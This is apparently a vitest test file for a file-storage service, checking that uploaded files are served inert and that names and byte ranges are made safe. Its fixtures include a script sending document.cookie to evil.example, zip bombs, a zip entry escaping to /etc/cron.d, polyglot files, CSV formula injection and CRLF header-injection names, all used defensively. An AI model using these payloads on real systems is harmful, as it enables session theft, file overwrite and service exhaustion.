import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Item } from '@astra/contracts/documents';
import { creation, startHouse, type House, type Person, type Reply } from './house.ts';

let house: House;
beforeAll(async () => {
  house = await startHouse();
});
afterAll(() => house.close());

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';

/** A zip of one entry, squeezed. */
function aZip(name: string, content: Buffer): Buffer {
  const squeezed = deflateRawSync(content);
  const facts = Buffer.alloc(26);
  facts.writeUInt16LE(20, 0);
  facts.writeUInt16LE(8, 4);
  facts.writeUInt32LE(squeezed.length, 14);
  facts.writeUInt32LE(content.length, 18);
  facts.writeUInt16LE(name.length, 22);
  const central = Buffer.concat([
    bytes('PK\x01\x02\x14\x00'),
    facts,
    Buffer.alloc(14),
    bytes(name),
  ]);
  const local = Buffer.concat([bytes('PK\x03\x04'), facts, bytes(name), squeezed]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

const flood = aZip('zeros', Buffer.alloc(50_000_000));
/** A picture of 65,000 by 65,000 by its head; nobody of ours unpacks it. */
const hugePicture = (() => {
  const copy = Buffer.from(png);
  copy.writeUInt32BE(65_000, 16);
  copy.writeUInt32BE(65_000, 20);
  return copy;
})();

const hostile: Readonly<Record<string, { readonly name: string; readonly content: Buffer }>> = {
  'a web page called a picture': { name: 'Radio.png', content: bytes(`<!doctype html>${script}`) },
  'a web page behind two endings': { name: 'Lettre.pdf.html', content: bytes(`<html>${script}`) },
  'a drawing with a script': {
    name: 'Plan.svg',
    content: bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`),
  },
  'a drawing with a script that says it is XML': {
    name: 'Plan.svg',
    content: bytes(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  },
  'a picture that is also a web page': {
    name: 'Photo.png',
    content: Buffer.concat([png, bytes(`<html>${script}`)]),
  },
  'a picture that is also an archive': {
    name: 'Photo.gif',
    content: Buffer.concat([bytes('GIF89a/*\x00\x01\x00*/=1;alert(1)'), aZip('a.class', png)]),
  },
  'a PDF with a script': {
    name: 'Lettre.pdf',
    content: bytes(
      '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
    ),
  },
  'a scan that begins as a program': {
    name: 'Scan.dcm',
    content: Buffer.concat([bytes('MZ'), Buffer.alloc(126), bytes('DICM'), randomBytes(200)]),
  },
  'a program': { name: 'Lettre.pdf.exe', content: Buffer.concat([bytes('MZ'), randomBytes(500)]) },
  'a document with macros': { name: 'Lettre.docm', content: aZip('word/vbaProject.bin', png) },
  'an archive that unpacks to a thousand times as much': { name: 'Images.zip', content: flood },
  'such an archive in another': { name: 'Images.zip', content: aZip('inner.zip', flood) },
  'an archive whose entries lead out of it': {
    name: 'Images.zip',
    content: aZip('../../../etc/cron.d/evil', png),
  },
  'a picture too large for any memory': { name: 'Radio.png', content: hugePicture },
  'a table of formulas': { name: 'Table.csv', content: bytes('=cmd|"/c calc"!A1;@SUM(1+1)\n') },
};
/** What a browser would run in the place of what it came from. */
const runs = /html|svg|javascript|ecmascript|xslt|multipart|x-shockwave/;

const content = (who: Person, { id }: Item): Promise<Reply> =>
  house.as(who)('GET', `/items/${id}/content`);

describe('a file is kept and given back as it is, unopened, and can do nothing where it is shown:', () => {
  test.each(Object.entries(hostile))('%s', async (_, file) => {
    const nadia = house.aPerson();
    const { own } = await house.spacesOf(nadia);

    const made = await house.aFile(nadia, own, file);
    const given = await content(nadia, made);
    const zip = await house.as(nadia)('GET', `/archive?items=${made.id}`);

    expect(given.bytes.equals(file.content)).toBe(true);
    expect(given.headers['content-type']).not.toMatch(runs);
    expect(given.headers).toMatchObject({
      'content-disposition': expect.stringMatching(/^attachment; /),
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
    });
    // As large as what was sent, never as what it says it holds.
    expect(made.sizeBytes).toBe(file.content.length);
    expect(zip.bytes.length).toBeLessThan(file.content.length + 2_000);
    // What was sealed tells nothing of it.
    expect(house.stored().some((name) => name.includes('Lettre') || name.includes('..'))).toBe(
      false,
    );
  });
});

const names: Readonly<Record<string, string>> = {
  'a way out of the folder': '../../../etc/passwd',
  'a way out as Windows writes it': '..\\..\\Windows\\win.ini',
  'nothing but the way up': '..',
  'an end in the middle': 'Lettre.pdf\u0000.exe',
  'an ending turned round': 'Lettre\u202Efdp.exe',
  'a header behind it': 'Lettre.pdf\r\nSet-Cookie: session=evil\r\n\r\n<html>',
  'a device': 'CON.txt',
  'a thousand letters': `${'a'.repeat(1_000)}.pdf`,
  'a thousand marks on one letter': `e${'\u0301'.repeat(1_000)}.pdf`,
  'letters that cannot be seen': '\u200B\u2060\uFEFF',
};

describe('a name is made safe before anybody sees it:', () => {
  test.each(Object.entries(names))('%s', async (_, name) => {
    const nadia = house.aPerson();
    const { own } = await house.spacesOf(nadia);

    const made = await house.aFile(nadia, own, { name });
    const { headers } = await content(nadia, made);

    expect(made.name).not.toMatch(/[\p{Cc}/\\\u202a-\u202e\u2066-\u2069]/u);
    expect(made.name).not.toMatch(/^\.\.?$|^con\b/iu);
    expect(made.name.trim()).not.toBe('');
    expect(Buffer.byteLength(made.name)).toBeLessThanOrEqual(255);
    expect(headers['set-cookie']).toBeUndefined();
    expect(String(headers['content-disposition'])).not.toMatch(/[\r\n]/);
  });
});

test('a name of four thousand letters is refused before anything is kept', async () => {
  const nadia = house.aPerson();
  const { own } = await house.spacesOf(nadia);
  const before = house.stored().length;

  const reply = await house.as(nadia)('POST', '/uploads', {
    headers: creation(own, 10, { name: 'a'.repeat(4_000) }),
  });

  expect(reply).toMatchObject({ status: 400, body: { type: '/problems/invalid-input' } });
  expect(house.stored()).toHaveLength(before);
});

test('no range of bytes costs more than the file, or gives anything that is not of it', async () => {
  const nadia = house.aPerson();
  const { own } = await house.spacesOf(nadia);
  const whole = randomBytes(1_000);
  const { id } = await house.aFile(nadia, own, { content: whole });
  const given = async (range: string): Promise<readonly [number, number]> => {
    const reply = await house.as(nadia)('GET', `/items/${id}/content`, { headers: { range } });
    if (reply.status === 416) return [416, 0];
    const isOfIt = whole.includes(reply.bytes);
    return [reply.status, isOfIt ? reply.bytes.length : -1];
  };

  const overlapping = `bytes=${Array.from({ length: 500 }, () => '0-').join(',')}`;
  expect(await given(overlapping)).toEqual([200, 1_000]);
  expect(await given('bytes=0-0,999-999')).toEqual([200, 1_000]);
  expect(await given('bytes=-0')).toEqual([416, 0]);
  expect(await given('bytes=5-4')).toEqual([200, 1_000]);
  expect(await given('bytes=0-99999999999999999999')).toEqual([200, 1_000]);
  expect(await given('bytes=990-999999999')).toEqual([206, 10]);
  expect(await given('bytes=-999999999')).toEqual([206, 1_000]);
  expect(await given('bytes=1000-')).toEqual([416, 0]);
  expect(await given('items=0-1')).toEqual([200, 1_000]);
  expect(await given('bytes=0x1-0x2')).toEqual([200, 1_000]);
});
